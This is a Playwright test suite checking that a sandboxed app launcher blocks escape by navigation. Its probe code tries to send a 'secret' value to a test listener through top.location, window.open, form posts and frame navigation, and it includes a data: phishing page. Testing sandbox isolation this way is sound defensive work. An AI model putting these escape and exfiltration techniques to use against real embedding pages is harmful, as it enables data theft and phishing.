import { expect } from '@playwright/test';
import { at, failed, launcherIntact, noHttpLeaks, noLeaks } from '../assertions.ts';
import { probeApp } from '../probeApp.ts';
import type { Row } from '../Row.ts';
import { echoInLauncher, openAndProbe } from '../rowHelpers.ts';

export const navigation: Row[] = [
  {
    id: 'N1',
    group: 'navigation',
    attempt: 'top.location = the listener, a data: URL and a blob: URL',
    outcome: 'blocked; the launcher URL is unchanged; no request',
    apps: {
      main: (env) =>
        probeApp(`
  out.http = await attempt(() => { top.location.href = '${env.listener}/n1'; return 'assigned'; });
  out.data = await attempt(() => { top.location.href = 'data:text/html,<h1>phish</h1>'; return 'assigned'; });
  const blob = URL.createObjectURL(new Blob(['<h1>phish</h1>'], { type: 'text/html' }));
  out.blob = await attempt(() => { top.location.href = blob; return 'assigned'; });
  out.replace = await attempt(() => { top.location.replace('${env.listener}/n1-replace'); return 'assigned'; });
  await wait(500);
`),
    },
    async check(t) {
      const p = await openAndProbe(t);
      for (const key of ['http', 'data', 'blob', 'replace']) failed(at(p, key));
      await noLeaks(t);
      await launcherIntact(t);
    },
  },
  {
    id: 'N2',
    group: 'navigation',
    attempt: 'window.open of the listener, about:blank and a data: URL',
    outcome: 'each returns null; no new page; no request',
    apps: {
      main: (env) =>
        probeApp(`
  out.http = await attempt(() => window.open('${env.listener}/n2'));
  out.blank = await attempt(() => window.open('about:blank'));
  out.data = await attempt(() => window.open('data:text/html,x', '_blank', 'noopener'));
  await wait(500);
`),
    },
    async check(t) {
      const p = await openAndProbe(t);
      for (const key of ['http', 'blank', 'data']) expect(at(p, key).value, key).toBeNull();
      await noLeaks(t);
      await launcherIntact(t);
    },
  },
  {
    id: 'N3',
    group: 'navigation',
    attempt: 'click <a target=_blank> and <a target=_top> links to the listener',
    outcome: 'no new page; the launcher URL is unchanged; no request',
    apps: {
      main: (env) =>
        probeApp(`
  for (const target of ['_blank', '_top', '_parent', 'fresh-window']) {
    const a = document.createElement('a');
    a.href = '${env.listener}/n3-' + target;
    a.target = target;
    a.textContent = target;
    document.body.append(a);
    a.click();
  }
  await wait(700);
`),
    },
    async check(t) {
      await openAndProbe(t);
      await noLeaks(t);
      await launcherIntact(t);
    },
  },
  {
    id: 'N4',
    group: 'navigation',
    attempt: 'submit forms with target=_top and target=_blank to the listener',
    outcome:
      'blocked (the runtime keeps submissions in the page, form-action none; no allow-popups or top navigation); no request; no new page; the app keeps its page',
    apps: {
      main: (env) =>
        probeApp(`
  for (const target of ['_top', '_blank', '_self']) {
    const form = document.createElement('form');
    form.action = '${env.listener}/n4-' + target;
    form.method = 'post';
    form.target = target;
    const input = document.createElement('input');
    input.name = 'data';
    input.value = 'secret';
    form.append(input);
    document.body.append(form);
    out['submit' + target] = await attempt(() => { form.submit(); return 'submitted'; });
    out['request' + target] = await attempt(() => { form.requestSubmit(); return 'submitted'; });
  }
  await wait(700);
`),
    },
    async check(t) {
      await openAndProbe(t);
      await noLeaks(t);
      await launcherIntact(t);
    },
  },
  {
    id: 'N5',
    group: 'navigation',
    attempt: '<a download> clicks on a blob: and a data: URL',
    outcome: 'no download (no allow-downloads); no request; the app keeps its page',
    apps: {
      main: () =>
        probeApp(`
  const blob = URL.createObjectURL(new Blob(['secret'], { type: 'text/plain' }));
  for (const href of [blob, 'data:text/plain,secret']) {
    const a = document.createElement('a');
    a.href = href;
    a.download = 'secret.txt';
    document.body.append(a);
    a.click();
  }
  await wait(800);
`),
    },
    async check(t) {
      await openAndProbe(t);
      await noLeaks(t);
      await launcherIntact(t);
    },
  },
  {
    id: 'N6',
    group: 'navigation',
    attempt: "navigate its own frame to the listener with data in the URL (location.href = '…?d=secret')",
    outcome:
      'the shell\'s frame-src refuses the new document (no HTTP request leaves); the launcher stops the app: "This app left its page and was stopped." + "Reload app"',
    apps: {
      main: (env) =>
        probeApp(`
  await wait(300);
  location.href = '${env.listener}/n6?d=secret';
`),
    },
    async check(t) {
      await t.open();
      const panel = t.page.getByRole('tabpanel');
      await expect(panel.getByText('This app left its page and was stopped.')).toBeVisible({
        timeout: 10_000,
      });
      await expect(panel.getByRole('button', { name: 'Reload app' })).toBeVisible();
      await noHttpLeaks(t);
      expect(t.popups).toEqual([]);
      expect(new URL(t.page.url()).pathname).toBe(`/rooms/${t.roomId}`);
    },
  },
  {
    id: 'N7',
    group: 'navigation',
    attempt:
      'navigate its own frame to a frame-host URL the shell allows (another <key>.localhost), then post SDK calls and a handshake from there',
    outcome:
      'the launcher stops the app and revokes its port; the new document gets no port and no answer; nothing reaches a third party',
    apps: {
      main: () =>
        probeApp(`
  await wait(300);
  location.href = 'http://n7-elsewhere.localhost:' + location.port + '/?leak=secret';
`),
    },
    async check(t) {
      await t.open();
      const panel = t.page.getByRole('tabpanel');
      await expect(panel.getByText('This app left its page and was stopped.')).toBeVisible({
        timeout: 10_000,
      });
      const navigated = t.page.frames().find((f) => f.url().includes('n7-elsewhere'));
      expect(navigated, 'the navigated frame').toBeDefined();
      // Whatever runs in the new document posts to the launcher: nothing may answer before the echo.
      await echoInLauncher(t);
      const answers = await navigated?.evaluate(
        () =>
          new Promise<string[]>((resolve) => {
            const got: string[] = [];
            window.addEventListener('message', (e) =>
              e.data === 'iso-drained' ? resolve(got) : got.push(`${e.data?.type}:${e.ports.length}`),
            );
            parent.postMessage({ type: 'ready', version: 1 }, '*');
            parent.postMessage({ type: 'sdk-call', id: 1, method: 'get', params: { key: 'secret' } }, '*');
            parent.postMessage({ type: 'sdk-call', id: 2, method: 'keys', params: {} }, '*');
            parent.postMessage('iso-drain', '*');
            setTimeout(() => resolve([...got, 'no echo from the launcher in 5 s']), 5000);
          }),
      );
      expect(answers, 'messages the navigated document received').toEqual([]);
      await noLeaks(t);
      expect(new URL(t.page.url()).pathname).toBe(`/rooms/${t.roomId}`);
    },
  },
  {
    id: 'N8',
    group: 'navigation',
    attempt: '<a download> to an http URL (the listener), which the sandbox would turn into a navigation',
    outcome:
      'the runtime keeps the frame on its page and asks the launcher, which refuses (no gesture in the app): no prompt, no download, no request; the app keeps running',
    apps: {
      main: (env) =>
        probeApp(`
  await wait(300);
  const refused = new Promise((resolve) => {
    const warn = console.warn.bind(console);
    console.warn = (...args) => { resolve(String(args[0]).slice(0, 120)); warn(...args); };
  });
  const a = document.createElement('a');
  a.href = '${env.listener}/n8.txt?d=secret';
  a.download = 'secret.txt';
  document.body.append(a);
  a.click();
  out.refused = await refused;
`),
    },
    async check(t) {
      const p = await openAndProbe(t);
      expect(p.refused).toMatch(/The link was not opened: .*only right after they click/);
      await expect(t.page.getByRole('dialog')).toHaveCount(0);
      await noHttpLeaks(t);
      await launcherIntact(t);
    },
  },
];
